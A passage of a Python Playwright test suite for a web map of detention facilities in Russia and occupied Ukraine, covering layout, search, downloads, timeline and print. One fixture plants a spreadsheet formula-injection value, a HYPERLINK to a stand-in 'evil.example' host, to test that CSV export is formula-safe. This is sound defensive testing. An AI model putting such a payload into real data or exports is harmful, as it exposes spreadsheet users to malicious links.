            const r = e.getBoundingClientRect(), x = r.x + r.width / 2, y = r.y + r.height / 2;
            if (b.contains(mapperTest.map.containerPointToLatLng([x, y])))
                out.push([x, y, parseInt(e.textContent, 10) || 1]); });
        return out; }""")
    # not a vacuous check: the icons checked carry most of the drawn facilities (on the phone
    # the 228-facility layer is four clusters there, 56 + 78 + 25 + 3: with the new points of
    # central Russia its clusters of 13 and 11 became one of 25, so the floor went from 5 to 4)
    assert len(centres) >= 4
    assert sum(c[2] for c in centres) >= 0.6 * len(drawn), centres
    centres = [c[:2] for c in centres]
    under = [c for c in centres if any(_inside(c, p) for p in panels)]
    assert not under, under


def test_search_results_are_never_covered(open_page, maps):
    page = open_page(maps["demo"], width=1100, height=900)
    page.locator(".mapper-legend summary").click()  # the legend open too
    page.fill("#mapper-search", "a")
    buttons = page.locator("#mapper-results button")
    assert buttons.count() >= 10
    covered = page.evaluate("""() => [...document.querySelectorAll('#mapper-results button')]
        .filter(b => { const r = b.getBoundingClientRect(),
                list = document.getElementById('mapper-results').getBoundingClientRect();
            const y = r.y + r.height / 2;
            if (y > list.bottom || y < list.top || y > innerHeight) return false;  // scrolled away
            const e = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
            return !(e && b.contains(e)); }).map(b => b.dataset.id)""")
    assert covered == []


def test_default_layers(open_page, maps):
    page = open_page(maps["demo"])
    checked = page.evaluate("""() => Object.fromEntries([...document.querySelectorAll(
        'input[data-layer]')].map(i => [i.dataset.layer, i.checked]))""")
    assert checked == {"choro": True, "flows": False, "names": True}
    # flows: arcs while they fit the screen, hidden (and said so) beyond zoom 7
    page.locator('input[data-layer="flows"]').check()
    assert page.locator(".leaflet-flows-pane path").count() > 0
    page.evaluate("() => { mapperTest.map.setZoom(9, {animate: false}); }")
    assert page.locator(".leaflet-flows-pane path").count() == 0
    assert "Shown up to zoom 7" in page.locator(".mapper-filters").inner_text()



_OVERLAPPING_NAMES = """() => {
    const boxes = [...document.querySelectorAll('.lbl.country')]
      .filter(e => getComputedStyle(e).visibility !== 'hidden')
      .map(e => [e.textContent, e.firstChild.getBoundingClientRect()]);
    const out = [];
    boxes.forEach(([a, r], i) => boxes.slice(i + 1).forEach(([b, q]) => {
      if (r.left < q.right && q.left < r.right && r.top < q.bottom && q.top < r.bottom)
        out.push(a + ' / ' + b);
    }));
    return [out, boxes.length];
}"""


@pytest.mark.parametrize("zoom", [2, 3, 5])
def test_country_names_never_run_together(open_page, maps, zoom):
    # At low zoom and in print, neighbours' names ran into one another ("ARMEAZERBAIJAN")
    page = open_page(maps["demo"])
    page.evaluate(f"() => {{ mapperTest.map.setView([50, 40], {zoom}, {{animate: false}}); }}")
    page.wait_for_timeout(100)
    overlapping, shown = page.evaluate(_OVERLAPPING_NAMES)
    assert overlapping == []
    assert shown >= 3  # Russia, Ukraine and some neighbours are still named


_NAMES_UNDER_ICONS = """() => {
    const box = e => e.getBoundingClientRect();
    const meet = (a, b) => a.left < b.right - 1 && b.left < a.right - 1
        && a.top < b.bottom - 1 && b.top < a.bottom - 1;
    const icons = [...document.querySelectorAll('.mc > div, .mf svg, .rb-in')].map(box)
        .filter(r => r.width > 0);
    const names = [...document.querySelectorAll('.mctx-place')].map(e => {
        const r = document.createRange(); r.selectNodeContents(e);  // the text, not the dot
        return [e.textContent, r.getBoundingClientRect()]; });
    return [names.filter(([, n]) => icons.some(i => meet(n, i))).map(([t]) => t),
            names.map(([t]) => t)];
}"""


@pytest.mark.parametrize("view", ["first", "zoom 5", "zoom 6", "zoom 7", "filtered"])
def test_town_names_are_never_under_a_facility_icon(open_page, maps, view):
    # Clusters and markers sat on the names of the towns they are in ("oscow", "kiv"); the
    # names now go beside, above or below the icons, or are left out where there is no room
    page = open_page(maps["demo"])
    if view.startswith("zoom"):
        page.evaluate("z => { mapperTest.map.setView([49, 37], z, {animate: false}); }",
                      int(view[5:]))
    if view == "filtered":
        page.locator('input[data-group="type"][data-key="penal_colony"]').uncheck()
    page.wait_for_timeout(150)
    under, names = page.evaluate(_NAMES_UNDER_ICONS)
    assert under == []
    # laid out around the icons shown now, not those before the change: a fresh layout agrees
    page.evaluate("() => mapperTest.layOutTownNames()")
    assert page.evaluate(_NAMES_UNDER_ICONS)[1] == names
    # and the big towns are still named, beside or above their clusters
    assert len(names) >= 10, names
    if view == "first":
        assert {"Moscow", "Kyiv", "Saint Petersburg"} <= set(names)


def test_a_town_name_by_the_map_s_left_edge_turns_inwards(open_page, maps):
    # On a phone, Saint Petersburg's name went left of its cluster and off the map ("Petersburg")
    page = open_page(maps["demo"], width=390, height=844)
    page.wait_for_timeout(150)
    cut = page.evaluate("""() => [...document.querySelectorAll('.mctx-place')].filter(e => {
        const r = document.createRange(); r.selectNodeContents(e);
        return r.getBoundingClientRect().left < 0; }).map(e => e.textContent)""")
    assert cut == []
    # the layout itself: by the left edge a name goes right of its point; when the right is
    # taken (an icon), a name the edge would cut is not shown at all (reg48a's points moved
    # the phone view so that Saint Petersburg's right side is taken: it was drawn cut)
    got = page.evaluate("""() => {
        const proj = (lat, lon) => ({x: lon, y: lat}), inView = () => true;
        const places = [[5, 100, 0, 'Saint Petersburg', '', '', 0]];
        const free = MapperContext.layout(places, 10, 'en', inView, proj, 10, [], null, [0, 400]);
        const taken = MapperContext.layout(places, 10, 'en', inView, proj, 10,
                                           [[6, 90, 200, 110]], null, [0, 400]);
        return [free.map(s => s.side), taken.map(s => s.side)];
    }""")
    assert got == [["r"], []]


# --- URL state (point 6), cite and download (point 5) ---------------------------------------

def test_url_state_round_trip(open_page, maps, layer):
    page = open_page(maps["demo"])
    page.locator('input[data-group="type"][data-key="sizo"]').uncheck()
    page.locator('.mapper-timeline button[data-year="2023"]').click()
    fid = "ua-kharkiv-balakliia-police"
    assert fid in set(layer["id"])
    page.evaluate("id => mapperTest.focus(id)", fid)
    page.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
    hash_ = page.evaluate("location.hash")
    assert f"id={fid}" in hash_ and "year=2023" in hash_ and "type=" in hash_
    assert "sizo" not in hash_.split("type=")[1].split("&")[0].split(",")
    shown = page.evaluate("mapperTest.shownIds()")
    # a new reader opening that link sees the same selection, year and facility
    again = open_page(maps["demo"], hash_=hash_)
    again.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
    assert again.evaluate("mapperTest.shownIds()") == shown
    assert not again.locator('input[data-group="type"][data-key="sizo"]').is_checked()
    assert again.locator('.mapper-timeline button[data-year="2023"]').get_attribute(
        "aria-pressed") == "true"
    assert again.errors == []


def test_view_is_restored(open_page, maps):
    page = open_page(maps["demo"], hash_="#view=47.1000,37.5500,9")
    view = page.evaluate("""() => { const c = mapperTest.map.getCenter();
        return [+c.lat.toFixed(2), +c.lng.toFixed(2), mapperTest.map.getZoom()]; }""")
    assert view == [47.1, 37.55, 9]


def test_unknown_id_says_so(open_page, maps):
    page = open_page(maps["demo"], hash_="#id=no-such-facility")
    alert = page.locator(".mapper-alert")
    assert "no facility with the id “no-such-facility”" in alert.inner_text()
    assert page.locator(".leaflet-popup").count() == 0


def test_copy_link_is_never_a_file_path(open_page, maps, layer, tmp_path):
    fid = "ru-rostov-taganrog-sizo-2"
    page = open_page(maps["demo"])
    page.evaluate("id => mapperTest.focus(id)", fid)
    link = page.locator(".leaflet-popup .link input").input_value()
    assert link == f"demo.html#id={fid}"
    published = tmp_path / "pub.html"
    render_map(layer, base_url="https://example.org/maps/detention.html").save(published)
    page = open_page(published)
    page.evaluate("id => mapperTest.focus(id)", fid)
    link = page.locator(".leaflet-popup .link input").input_value()
    assert link == f"https://example.org/maps/detention.html#id={fid}"
    about = page.locator("#mapper-about").inner_text()
    assert "https://example.org/maps/detention.html" in about
    assert "How to cite" in about and "mapper figure" in about


def test_downloads_equal_the_selection(open_page, maps, layer):
    import csv
    import io

    page = open_page(maps["demo"])
    page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
    page.locator('.mapper-timeline button[data-year="2022"]').click()
    shown = page.evaluate("mapperTest.shownIds()")
    assert 0 < len(shown) < len(layer)
    with page.expect_download() as dl:
        page.locator('button[data-download="geojson"]').click()
    fc = json.loads(dl.value.path().read_text(encoding="utf-8"))
    assert [f["properties"]["id"] for f in fc["features"]] == shown
    assert all(f["properties"]["country"] == "UA" for f in fc["features"])
    with page.expect_download() as dl:
        page.locator('button[data-download="csv"]').click()
    text = dl.value.path().read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["id"] for r in rows] == shown
    assert dl.value.suggested_filename.endswith("_2022.csv")
    assert page.blocked == []


def test_csv_download_is_formula_safe(open_page, registry_fields_map):
    import csv
    import io

    page = open_page(registry_fields_map)
    with page.expect_download() as dl:
        page.locator('button[data-download="csv"]').click()
    rows = list(csv.DictReader(io.StringIO(dl.value.path().read_text(encoding="utf-8-sig"))))
    name = next(r["name_en"] for r in rows if r["id"] == "t-russia")
    assert name == "'" + FORMULA  # shown as text by a spreadsheet, never run
    for r in rows:
        for v in r.values():
            assert v[:1] not in ("=", "+", "-", "@"), v


# --- time (point 4), territory and sources from the registry's new fields -----------------------

FORMULA = '=HYPERLINK("https://evil.example/?x","click")'


@pytest.fixture(scope="module")
def registry_fields_map(tmp_path_factory):
    """Three facilities with the registry branch's fields (control_status, liberated_date,
    sources with publisher and title). Names, places and dates are made up for the test."""
    gdf = gpd.GeoDataFrame({
        "id": ["t-liberated", "t-occupied", "t-russia"],
        "name_en": ["Test place A", "Test place B", FORMULA],
        "facility_type": ["improvised", "filtration_site", "sizo"],
        "country": ["UA", "UA", "RU"], "occupied": [True, True, False],
        "control_status": ["liberated", "occupied", "russia"],
        "liberated_date": ["2022-11-11", None, None],
        "region_code": ["UA-65", "UA-14", "RU-ROS"],
        "settlement_en": ["Town A", "Town B", "Town C"],
        "geocode_precision": ["settlement", "settlement", "exact"],
        "first_reported": ["2022-03", "2022-04", "2023-01"],
        "last_reported": ["2022-11", None, "2024-05"],
        "sources": [[{"url": "https://example.org/a", "date": "2022-12-01",
                      "publisher": "Example Outlet", "title": "Report on place A"}],
                    [{"url": "https://example.org/b", "date": "2023"}],
                    [{"url": "https://example.org/c", "date": "2024-05-02",
                      "publisher": "Other Outlet", "title": "Place C",
                      "retrieved_from": "https://web.archive.org/web/2024/https://example.org/c"}]],
        "reported_detainees": ["civilian"] * 3, "context": ["captivity_since_2022"] * 3,
    }, geometry=[Point(32.6, 46.65), Point(37.8, 48.0), Point(39.7, 47.2)], crs="EPSG:4326")
    path = tmp_path_factory.mktemp("fields") / "fields.html"
    render_map(gdf).save(path)
    return path


def test_liberated_and_occupied_with_dates_and_sources(open_page, registry_fields_map):
    page = open_page(registry_fields_map)
    page.evaluate("id => mapperTest.focus(id)", "t-liberated")
    popup = page.locator('.leaflet-popup .mp[data-id="t-liberated"]')
    popup.wait_for()
    text = popup.inner_text()
    assert "Liberated Ukraine since 2022-11-11 (occupied when in use, 2022-03 – 2022-11)" in text
    link = popup.locator("ol a")
    assert link.inner_text() == "Report on place A"
    assert link.get_attribute("href") == "https://example.org/a"
    assert "Example Outlet, 2022-12-01" in popup.locator("ol").inner_text()
    page.evaluate("id => mapperTest.focus(id)", "t-occupied")
    popup = page.locator('.leaflet-popup .mp[data-id="t-occupied"]')
    popup.wait_for()
    assert "Occupied Ukraine (in use 2022-04 – …)" in popup.inner_text()
    # without publisher or title: the link shows the address and the outlet's host
    assert "example.org, 2023" in popup.locator("ol").inner_text()
    page.evaluate("id => mapperTest.focus(id)", "t-russia")
    popup = page.locator('.leaflet-popup .mp[data-id="t-russia"]')
    popup.wait_for()
    assert "via web.archive.org" in popup.locator("ol").inner_text()
    # the territory filter has its own entry for liberated places, and the table says so
    assert page.locator('input[data-group="terr"][data-key="ua_liberated"]').count() == 1
    cell = page.locator('#mapper-table tr[data-id="t-liberated"] td').nth(1).inner_text()
    assert cell.startswith("Liberated Ukraine since 2022-11-11")
    assert page.errors == []


def test_timeline_drives_markers_counts_choropleth(open_page, maps, layer):
    join = maps["join"]
    page = open_page(maps["demo"])
    bars = page.locator(".mapper-timeline button[data-year]")
    years = [b for b in bars.evaluate_all("bs => bs.map(b => b.dataset.year)") if b]
    assert "2022" in years and "2025" in years
    page.locator('.mapper-timeline button[data-year="2024"]').click()
    jl = join.layer
    in_2024 = set(jl.loc[jl["testimonies_2024"] > 0, "id"])
    shown = set(page.evaluate("mapperTest.shownIds()"))
    assert in_2024 <= shown
    for fid in shown - in_2024:  # the rest: reported in use that year
        row = jl[jl.id == fid].iloc[0]
        first = str(row["first_reported"])[:4] if isinstance(row["first_reported"], str) else "0"
        last = str(row["last_reported"])[:4] if isinstance(row["last_reported"], str) else "9999"
        assert first <= "2024" <= last, fid
    assert page.locator("#mapper-table tbody tr").count() == len(shown)
    status = page.locator(".mapper-status").inner_text()
    assert f"Showing {len(shown)} of {len(layer)}" in status
    # the choropleth now shows 2024's counts: one shape per region with testimonies in 2024
    regs = join.regions
    assert page.evaluate("mapperTest.choroRegions()") == sorted(
        regs.loc[regs["testimonies_2024"] > 0, "region_code"])
    page.locator('.mapper-timeline button[data-year=""]').click()
    assert page.evaluate("mapperTest.choroRegions()") == sorted(
        regs.loc[regs["testimonies"] > 0, "region_code"])


# --- phone (point 8) and print (point 9) -------------------------------------------------------

def test_phone_tap_targets_and_nothing_covers_a_control(open_page, maps):
    page = open_page(maps["demo"], width=390, height=844)
    small = page.evaluate("""() => [...document.querySelectorAll('.leaflet-control-container '
        + 'button, .leaflet-control-container summary, .leaflet-control-container a[href], '
        + '.leaflet-control-container input, .mf, .mc, .rb .rb-in')]
        // a checkbox's target is its whole label
        .map(e => [e.className || e.tagName, (e.type === 'checkbox' && e.closest('label')
            ? e.closest('label') : e).getBoundingClientRect()])
        .filter(([, r]) => r.width > 0 && (r.width < 24 || r.height < 24))
        .map(([n, r]) => n + ' ' + Math.round(r.width) + 'x' + Math.round(r.height))""")
    # the attribution's links are inline text (WCAG 2.5.8 exempts them)
    assert [s for s in small if not s.startswith("A ") and "attribution" not in s] == [], small
    covered = page.evaluate("""() => [...document.querySelectorAll('.leaflet-control-container '
        + 'button, .leaflet-control-container summary, #mapper-search')]
        .filter(e => { const r = e.getBoundingClientRect();
            if (!r.width || r.bottom > innerHeight) return false;
            const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
            return !(hit && (e === hit || e.contains(hit))); })
        .map(e => e.className || e.textContent)""")
    assert covered == []
    # the demo banner is in the title panel, never over the legend or the scale bar
    banner = page.locator(".mapper-banner.synthetic")
    assert banner.is_visible()
    assert page.evaluate(
        "document.querySelector('.mapper-banner').closest('.mapper-title') !== null")
    # panels open as bottom sheets
    page.locator(".mapper-filters summary").click()
    box = page.locator(".mapper-filters").bounding_box()
    assert box["width"] == 390 and abs(box["y"] + box["height"] - 844) <= 1


def test_print_refits_with_legend_and_compact_table(open_page, maps, layer):
    page = open_page(maps["demo"])
    page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
    page.emulate_media(media="print")
    page.evaluate("() => { window.dispatchEvent(new Event('beforeprint')); }")
    assert page.evaluate("document.querySelector('.mapper-legend').open")
    assert page.locator(".mapper-legend-body").is_visible()
    for hidden in (".mapper-timeline", ".mapper-search", "#mapper-table td.noprint button"):
        assert not page.locator(hidden).first.is_visible(), hidden
    # the view is refitted to the selection: every facility shown is inside it
    inside = page.evaluate("""() => { const b = mapperTest.map.getBounds();
        return mapperTest.clusters.getLayers().every(m => b.contains(m.getLatLng())); }""")
    assert inside
    assert page.locator("#mapper-table tbody tr[data-id]").count() == len(
        page.evaluate("mapperTest.shownIds()"))
    assert "mapper figure" in page.locator("#mapper-about").inner_text()
    page.screenshot(path=str(maps["dir"] / "print.png"), full_page=True)


def _pdf_first_page(path):
    """Page 1 of a PDF as RGB pixels, and pixels per mm (A4 landscape)."""
    import pypdfium2

    img = pypdfium2.PdfDocument(path)[0].render(scale=2).to_pil().convert("RGB")
    return img, img.width / 297


def _share(img, mm, box, test):
    """The share of pixels in a box (mm) that pass a test on an (n, 3) array of RGB."""
    import numpy as np

    px = np.asarray(img.crop(tuple(round(v * mm) for v in box))).reshape(-1, 3).astype(int)
    return float(test(px).mean())


def test_a_real_print_frames_the_selection_in_colour(open_page, maps):
    """Chromium's own print path (page.pdf, background graphics off as in its print dialog),
    not media emulation: 'beforeprint' comes while the screen's layout still holds, and a
    canvas prints its empty pixels white. Together they once printed the map framed for the
    screen, its west and south blank, the clusters' pies without colour."""
    page = open_page(maps["demo"])
    page.evaluate("""() => window.addEventListener('beforeprint', () => {  // after the map's own
        const b = mapperTest.map.getBounds();
        const xs = mapperTest.clusters.getLayers().map(
            m => mapperTest.map.latLngToContainerPoint(m.getLatLng()).x);
        window.__printed = { inside: mapperTest.clusters.getLayers().every(
            m => b.contains(m.getLatLng())), size: mapperTest.map.getSize(),
            span: (Math.max(...xs) - Math.min(...xs)) / mapperTest.map.getSize().x }; })""")
    pdf = maps["dir"] / "real-print.pdf"
    page.pdf(path=str(pdf), prefer_css_page_size=True)
    printed = page.evaluate("window.__printed")
    assert printed["inside"]
    # and uses the map's width: the title panel is on the map, the selection framed below it
    # (wide, not tall); measured 0.72, 0.51 when the panel's width was kept free as on screen
    assert printed["span"] > 0.65
    # the map's printed box is 190 x 160 mm (map.css): Leaflet measured that size, not the screen's
    assert abs(printed["size"]["x"] - 190 / 25.4 * 96) <= 1
    assert abs(printed["size"]["y"] - 160 / 25.4 * 96) <= 1
    img, mm = _pdf_first_page(pdf)
    white = lambda px: px.min(axis=1) >= 250  # noqa: E731
    # the map box, 10 mm margins; measured 0.10 (attribution strip, panel, labels' halos);
    # 0.72 when the map was framed for the screen and the canvas printed white
    assert _share(img, mm, (11, 11, 199, 169), white) < 0.2
    # its lower left, below the title panel: 0.04; 0.99 blank before
    assert _share(img, mm, (12, 100, 100, 165), white) < 0.1
    # colour printed: the clusters' pies are CSS gradients, dropped without print-color-adjust
    # (measured 0.052 of the map box vivid; 0.035 without)
    vivid = lambda px: px.max(axis=1) - px.min(axis=1) > 120  # noqa: E731
    assert _share(img, mm, (11, 11, 199, 169), vivid) > 0.045
    # and after printing, the screen's map is back
    assert page.evaluate("mapperTest.map.getSize().x") == 1280
    assert page.evaluate("document.documentElement.classList.contains('mapper-printing')") is False


# --- scale (point 10): the table is virtualised; timings are in bench/bench_map.py --------------

def _eight_copies(layer):
    """8 × the layer, new ids, moved a little: a table long enough to be virtualised."""
    import pandas as pd

    copies = []
    for k in range(8):
        c = layer.copy()
        c["id"] = [f"{i}-v{k}" for i in c["id"]]
        c["former_ids"] = [[] for _ in range(len(c))]
        c["geometry"] = c.geometry.translate(0.01 * k, 0.0)
        copies.append(c)
    return gpd.GeoDataFrame(pd.concat(copies, ignore_index=True), crs=layer.crs)


def test_long_table_is_virtualised(open_page, layer, tmp_path):
    big = _eight_copies(layer)
    path = tmp_path / "big.html"
    render_map(big).save(path)
    page = open_page(path)
    n = len(big)
    assert page.evaluate("mapperTest.tableRows()") == n
    in_dom = page.locator("#mapper-table tbody tr[data-id]").count()
    assert 0 < in_dom < 300
    # scrolled to the end, the last rows are there; the caption counts them all
    page.evaluate("""() => { const s = document.querySelector('.mapper-table-scroll');
        s.scrollTop = s.scrollHeight; s.dispatchEvent(new Event('scroll')); }""")
    last = page.evaluate("""() => { const rows = document.querySelectorAll(
        '#mapper-table tbody tr[data-id]'); return rows[rows.length - 1].dataset.id; }""")
    ordered = page.evaluate("""() => mapperTest.shownIds().length""")
    assert ordered == n and last
    assert f"Showing {n} of {n}" in page.locator("#mapper-table caption").inner_text()


@pytest.mark.parametrize("size", [(1440, 900), (390, 844)])
def test_keyboard_tabs_through_a_virtualised_table(open_page, layer, tmp_path, size):
    # Tab scrolls the next row into view and the table repaints its window of rows: the
    # control the reader is on keeps the focus (it fell to the page's start after about 20
    # rows), forward and back, row after row
    path = tmp_path / "big.html"
    render_map(_eight_copies(layer)).save(path)
    page = open_page(path, width=size[0], height=size[1])
    page.evaluate("() => document.querySelector('#mapper-table tbody tr[data-id] button').focus()")
    row = ("() => { const r = document.activeElement.closest('tr[data-id]');"
           " return r && r.dataset.id; }")
    ahead = []
    for _ in range(300):
        page.keyboard.press("Tab")
        ahead.append(page.evaluate(row))
    assert None not in ahead and len(set(ahead)) == 300, ahead
    back = []
    for _ in range(150):
        page.keyboard.press("Shift+Tab")
        back.append(page.evaluate(row))
    assert back == ahead[149:299][::-1]


def test_first_view_at_10000_facilities_is_right_across_180(open_page, tmp_path):
    """10,000 synthetic facilities in every region (bench/bench_map.py's layer, ten of them in
    Chukotka east of 180°): the first view spans 180° and draws those beside Chukotka, not at
    the far left of a whole-world view, with Ukraine in view too."""
    import importlib.util
    from pathlib import Path

    spec = importlib.util.spec_from_file_location(
        "bench_map", Path(__file__).parents[1] / "bench" / "bench_map.py")
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    big = bench.synthetic_layer(10_000)
    east = big[big.geometry.x < -168]
    assert len(east) >= 5
    path = tmp_path / "ten_thousand.html"
    render_map(big).save(path)
    page = open_page(path, width=1440, height=900)
    view = page.evaluate("""() => { const b = mapperTest.map.getBounds();
        return [b.getWest(), b.getEast(), b.getSouth(), b.getNorth()]; }""")
    # one continuous view across 180° (the panels take ~700 px of 1440: the facilities'
    # 22° E - 190° E fill the rest at zoom 2.5), not -180° … 180° with Chukotka at the far left
    assert view[0] > -180 and view[1] > 190 and view[1] - view[0] <= 360, view
    placed = page.evaluate("""ids => { const out = {};
        mapperTest.clusters.getLayers().forEach(m => { const id = m.feature.properties.id;
            const ll = m.getLatLng();
            if (ids.includes(id)) out[id] = [ll.lng, mapperTest.map.getBounds().contains(ll)]; });
        return out; }""", list(east["id"]))
    drawn = east[east.geocode_precision != "region"]
    assert set(placed) == set(drawn["id"])
    for fid, lon in zip(drawn["id"], drawn.geometry.x, strict=True):
        assert placed[fid] == [pytest.approx(lon + 360), True], fid
    # Kyiv (30.5° E, 50.4° N) and Anadyr (177.5° E, 64.7° N) are both in the view
    assert page.evaluate("""() => [[50.4, 30.5], [64.7, 177.5]].every(
        p => mapperTest.map.getBounds().contains(p))""")
